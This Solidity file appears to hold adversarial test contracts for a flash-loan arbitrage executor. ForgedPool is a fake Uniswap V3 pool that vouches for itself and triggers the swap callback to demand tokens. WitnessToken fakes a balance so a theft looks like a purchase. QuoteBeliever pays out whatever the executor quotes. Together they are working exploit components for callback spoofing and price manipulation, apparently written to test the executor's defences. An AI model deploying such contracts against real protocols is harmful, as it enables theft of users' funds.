// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FlashLoanArbitrage} from "contracts/flashloan/FlashLoanArbitrage.sol";
import {IUniswapV3SwapCallback} from "contracts/interfaces/external/IUniswapV3Pool.sol";

/// @title A pool that nobody listed, with the right tokens and a factory that vouches for it: itself.
contract ForgedPool {
    address public immutable token0;
    address public immutable token1;
    uint24 public constant fee = 500;

    constructor(address token0_, address token1_) {
        (token0, token1) = (token0_, token1_);
    }

    function factory() external view returns (address) {
        return address(this);
    }

    function getPool(address, address, uint24) external view returns (address) {
        return address(this);
    }

    /// @notice Asks for `amount` of token0 as if it had been bought with it.
    function charge(address payer, uint256 amount) external {
        bytes memory data = abi.encode(token0, amount);
        IUniswapV3SwapCallback(payer).uniswapV3SwapCallback(int256(amount), -1, data);
    }
}

/// @title A token of which somebody has as much as somebody else holds of another token.
/// @notice So a call that moves the other token seems to have bought this one.
contract WitnessToken {
    mapping(address account => uint256) private _balances;
    address private immutable _BUYER;
    address private immutable _THIEF;
    IERC20 private immutable _STOLEN;

    constructor(address buyer, address thief, address stolen) {
        (_BUYER, _THIEF, _STOLEN) = (buyer, thief, IERC20(stolen));
    }

    function mint(address to, uint256 amount) external {
        _balances[to] += amount;
    }

    function balanceOf(address account) external view returns (uint256) {
        return account == _BUYER ? _STOLEN.balanceOf(_THIEF) : _balances[account];
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _balances[to] += amount;
        return true;
    }
}

/// @title A protocol that believes what the executor quotes, and pays it out.
contract QuoteBeliever {
    IERC20 private immutable _TOKEN;
    FlashLoanArbitrage private immutable _EXECUTOR;
    address private immutable _TO;

    uint256 public paid;

    constructor(address token, FlashLoanArbitrage executor, address to) {
        (_TOKEN, _EXECUTOR, _TO) = (IERC20(token), executor, to);
    }

    function payOut(bytes calldata plan) external {
        (uint256 worth,,) = _EXECUTOR.quote(plan);
        paid = worth;
        _TOKEN.transfer(_TO, worth);
    }
}
